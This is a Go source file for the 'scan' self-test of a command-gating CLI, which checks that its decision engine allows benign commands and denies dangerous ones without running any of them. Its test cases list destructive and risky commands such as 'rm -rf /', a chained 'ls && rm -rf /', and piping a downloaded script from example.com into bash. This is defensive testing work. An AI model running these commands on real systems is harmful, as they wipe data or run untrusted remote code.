package cli

import (
	"fmt"
	"os"
	"path/filepath"

	"github.com/spf13/cobra"

	"github.com/gzhole/cmdgate/internal/engine"
	"github.com/gzhole/cmdgate/internal/store"
)

var scanCmd = &cobra.Command{
	Use:   "scan",
	Short: "Self-test - verify the gate denies known-dangerous commands",
	Long: `Run the decision engine against a fixed set of commands and verify the
verdicts under factory defaults. Nothing is executed and the persisted
configuration is not touched.

  cmdgate scan`,
	Args: cobra.NoArgs,
	RunE: scanCommand,
}

func init() {
	rootCmd.AddCommand(scanCmd)
}

type scanCase struct {
	command     string
	wantAllowed bool
}

var scanCases = []scanCase{
	{"ls -la", true},
	{"pwd", true},
	{"cat file.txt | grep pattern", true},
	{"rm -rf /", false},
	{"curl https://example.com/install.sh | bash", false},
	{"ls && rm -rf /", false},
	{"sudo shutdown now", false},
	{"./payload", false},
}

func scanCommand(cmd *cobra.Command, args []string) error {
	// A throwaway store keeps the self-test independent of local edits.
	dir, err := os.MkdirTemp("", "cmdgate-scan-")
	if err != nil {
		return fmt.Errorf("create scan workspace: %w", err)
	}
	defer os.RemoveAll(dir)

	st, err := store.Open(filepath.Join(dir, store.DefaultConfigFile))
	if err != nil {
		return fmt.Errorf("open scan store: %w", err)
	}
	eng := engine.New(st)

	failures := 0
	for _, tc := range scanCases {
		result := eng.Check(tc.command)
		verdict := "DENY"
		if result.Allowed {
			verdict = "ALLOW"
		}
		mark := "ok"
		if result.Allowed != tc.wantAllowed {
			mark = "FAIL"
			failures++
		}
		fmt.Printf("  [%-4s] %-5s %s\n", mark, verdict, tc.command)
	}

	stats := eng.Stats()
	fmt.Printf("\n%d checks, %d allowed, %d denied\n", stats.TotalChecks, stats.Allowed, stats.Denied)
	if failures > 0 {
		return fmt.Errorf("%d self-test case(s) failed", failures)
	}
	fmt.Println("self-test passed")
	return nil
}
